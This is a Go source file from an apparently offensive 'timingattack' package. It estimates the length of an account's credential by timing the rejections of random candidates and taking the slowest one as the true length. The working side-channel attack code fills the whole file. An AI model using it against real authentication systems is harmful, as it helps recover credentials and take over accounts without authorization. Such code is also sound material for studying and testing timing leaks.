package timingattack

import (
	"context"
	"fmt"

	"go.uber.org/zap"
)

// InferLength estimates the credential length of account.
//
// Every length in [0, maxLen) is tried with one random candidate. Only a
// candidate of the right length gets past the length check and into the
// character comparison, so the true length shows up as the slowest
// rejection. The returned table holds the representative latency of every
// trial length.
func InferLength(ctx context.Context, oracle Oracle, account string, maxLen int, opts ...Option) (int, LengthTable, error) {
	if maxLen <= 0 {
		return 0, nil, fmt.Errorf("%w: max length must be positive, got %d", ErrInvalidArgument, maxLen)
	}
	cfg, err := newConfig(opts)
	if err != nil {
		return 0, nil, err
	}
	return inferLength(ctx, cfg, target{oracle: oracle, account: account}, maxLen)
}

func inferLength(ctx context.Context, cfg *Config, t target, maxLen int) (int, LengthTable, error) {
	sampler := cfg.sampler()
	log := cfg.logger.With(zap.String("account", t.account))
	log.Info("Inferring credential length",
		zap.Int("max_length", maxLen),
		zap.Int("repeats", cfg.repeats),
		zap.Int("inner_count", cfg.innerCount),
		zap.String("timer", cfg.timer.Name()))

	table := make(LengthTable, maxLen)
	for i := 0; i < maxLen; i++ {
		if err := ctx.Err(); err != nil {
			return 0, nil, err
		}
		candidate := RandomString(cfg.rng, cfg.alphabet, i)
		samples, err := sampler.Measure(t.operation(ctx, candidate))
		if err != nil {
			return 0, nil, err
		}
		table[i] = samples.Representative()
		log.Debug("Measured trial length",
			zap.Int("length", i),
			zap.Float64("latency_ns", table[i]),
			zap.Stringer("spread", samples.Summary()))
	}

	best := table.Argmax()
	if ce := log.Check(zap.DebugLevel, "Length ranking"); ce != nil {
		fields := make([]zap.Field, 0, cfg.topN)
		for _, r := range table.Ranking(cfg.topN) {
			fields = append(fields, zap.Float64(fmt.Sprintf("len_%d", r.Length), r.Ratio))
		}
		ce.Write(fields...)
	}
	log.Info("Most likely length", zap.Int("length", best), zap.Float64("latency_ns", table[best]))
	return best, table, nil
}
